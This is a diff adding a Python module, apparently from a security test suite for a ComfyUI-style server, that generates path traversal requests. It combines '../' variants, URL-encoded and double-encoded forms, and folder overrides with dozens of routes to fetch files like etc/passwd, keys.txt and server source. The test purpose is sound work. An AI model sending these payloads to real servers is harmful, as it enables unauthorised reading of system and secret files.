@@ -1,0 +1,43 @@
+"""Ways to what a key that may only look must not see, by routes that it may ask."""
+
+from urllib.parse import quote
+
+from hostile.target import CLOSED_FILES
+from hostile.wire import request
+
+#: What is wanted, from the folder of data; and what is beside it, or of the system.
+WANTED = (*CLOSED_FILES, "keys.txt", "pictures/secret.json", "server.py", "main.py", "comfy/cli_args.py", "etc/passwd")
+
+#: How a careless look takes a path for one below.
+UP = ("../", "../../", "..%2f", "..\\", "....//", "%2e%2e/", "./../", "x/../../", "/", "~/../", "../../../../../../")
+
+#: Routes, each with one place for a path. `@` marks it.
+ROUTES = (
+    "/view?filename=@", "/view?filename=@&type=input", "/view?filename=@&type=temp", "/view?filename=x&subfolder=@",
+    "/view?filename=@&preview=webp", "/view?filename=@ [input]", "/view_metadata/checkpoints?filename=@",
+    "/view_metadata/@", "/userdata/@", "/userdata?dir=@&full_info=true", "/v2/userdata?path=@",
+    "/experiment/models/preview/checkpoints/0/@", "/models/@", "/experiment/models/@", "/internal/files/@",
+    "/settings/@", "/global_subgraphs/@", "/templates/@", "/docs/@", "/extensions/@", "/@", "/object_info/@",
+    "/history/@", "/jobs/@", "/assets/@/content", "/workflow_templates/@", "/canary_pictures/@",
+)  # fmt: skip
+
+#: Folders of the files, for routes that take the name alone.
+SUBFOLDERS = (
+    "..", "../user/default", "../user/__manager", "../..", "/etc", "..%2fuser", ".", "../output/..", "closed",
+)  # fmt: skip
+
+TARGETS = [
+    *(route.replace("@", up + wanted) for route in ROUTES for up in UP[:4] for wanted in WANTED[::2]),
+    *(route.replace("@", up + wanted) for route in ROUTES[:9] for up in UP[4:] for wanted in WANTED[1::4]),
+    *(route.replace("@", wanted) for route in ROUTES for wanted in WANTED[::3]),
+    *(f"/userdata/{quote(up + wanted, safe='')}" for up in ("", *UP) for wanted in WANTED),
+    *(f"/userdata/{quote(quote(up + wanted, safe=''), safe='')}" for up in ("", *UP[:4]) for wanted in WANTED[::2]),
+    *(
+        f"/view?filename={wanted.rpartition('/')[2]}&subfolder={quote(folder)}&type={kind}"
+        for wanted in WANTED[::2]
+        for folder in SUBFOLDERS
+        for kind in ("output", "input")
+    ),
+]
+
+ATTACKS = {f"GET {target} ({n})": request(f"GET {target}") for n, target in enumerate(dict.fromkeys(TARGETS))}
